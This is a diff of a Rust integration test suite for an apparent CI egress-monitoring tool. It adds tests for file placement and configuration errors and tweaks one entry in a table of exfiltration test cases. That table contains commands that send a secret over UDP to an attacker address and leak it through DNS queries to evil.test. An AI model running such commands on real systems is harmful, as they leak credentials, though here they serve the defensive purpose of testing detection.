@@ -5,6 +5,7 @@ use nix::sys::signal::{Signal, kill};
 use nix::unistd::Pid;
 use portcullis_tests::attacker::{ATTACKER_V4, ATTACKER_V6};
 use portcullis_tests::cgroup;
+use portcullis_tests::world::MonitorOptions;
 use portcullis_tests::world::network::{DNS_V4, DNS_V6, RUNNER_V4};
 use portcullis_tests::{Canary, Job, JobOutcome, StepOutcome, World, wait_for, wait_until};
 use std::fs;
@@ -148,7 +149,7 @@ fn the_attacker_notices_every_way_out() -> Result<()> {
         ("udp", "printf %s \"$S\" > /dev/udp/203.0.113.66/5555"),
         ("udp port 443, base64", "printf 'x%s' \"$S\" | base64 -w0 > /dev/udp/203.0.113.66/443"),
         ("dns through the resolver", "dig +short $S.evil.test"),
-        ("dns in many labels", "dig +short $(echo $S | sed 's/.\\{5\\}/&./g').evil.test"),
+        ("dns in many labels", "dig +short $(echo $S | sed 's/.\\{7\\}/&./g').evil.test"),
         ("dns to the attacker over tcp", "dig +tcp @203.0.113.66 $S.anything.test"),
         ("dns in hexadecimal", "dig +short $(printf %s $S | od -An -tx1 | tr -d ' \\n').evil.test"),
         (
@@ -336,6 +337,45 @@ fn builds_a_world_and_waits() -> Result<()> {
     job.wait_for_line("here")?;
     fs::write(note, format!("{}\n", world.id()))?;
     job.wait()?;
+    Ok(())
+}
+
+#[test]
+fn files_of_the_product_lie_where_the_design_says() -> Result<()> {
+    let world = World::builder().build()?;
+    world.write_policy("build", "name: build\negress-policy: block\n")?;
+    let policy = world.root().join("etc/portcullis/policies/build.yaml");
+    assert!(fs::read_to_string(policy)?.starts_with("name: build"));
+    world.write_configuration("cluster = \"test\"\n")?;
+    assert!(world.root().join("etc/portcullis/monitor.toml").exists());
+    world.install_hooks()?;
+    let hook = world.root().join("opt/portcullis/hooks/pre-job.sh");
+    let expected = format!(
+        "#!/bin/bash\nexec {} --socket {}\n",
+        world.root().join("opt/portcullis/bin/pre-job").display(),
+        world.socket().display()
+    );
+    assert_eq!(fs::read_to_string(&hook)?, expected);
+    let environment = fs::read_to_string(world.runner(0).directory().join(".env"))?;
+    assert!(environment.contains(&format!("ACTIONS_RUNNER_HOOK_JOB_STARTED={}\n", hook.display())));
+    assert!(world.job_ids()?.is_empty());
+    let spool = world.root().join("var/lib/portcullis/spool/job-1");
+    fs::create_dir_all(&spool)?;
+    let whole = r#"{"job_id":"job-1","seq":1,"time":"2026-11-21T10:00:00Z","type":"job","stage":"started","reason":"x"}"#;
+    fs::write(spool.join("events.ndjson"), format!("{whole}\n{{\"job_id\":"))?;
+    assert_eq!(world.job_ids()?, ["job-1"]);
+    assert_eq!(world.events("job-1")?.len(), 1);
+    fs::write(spool.join("events.ndjson"), "nonsense\n")?;
+    assert!(world.events("job-1").is_err());
+    Ok(())
+}
+
+#[test]
+fn a_monitor_that_ends_at_its_start_is_an_error_with_its_words() -> Result<()> {
+    let world = World::builder().build()?;
+    world.write_configuration("this is no configuration")?;
+    let error = world.monitor(MonitorOptions::default()).err().context("it serves")?;
+    assert!(format!("{error:#}").contains("ended at its start"), "{error:#}");
     Ok(())
 }
 
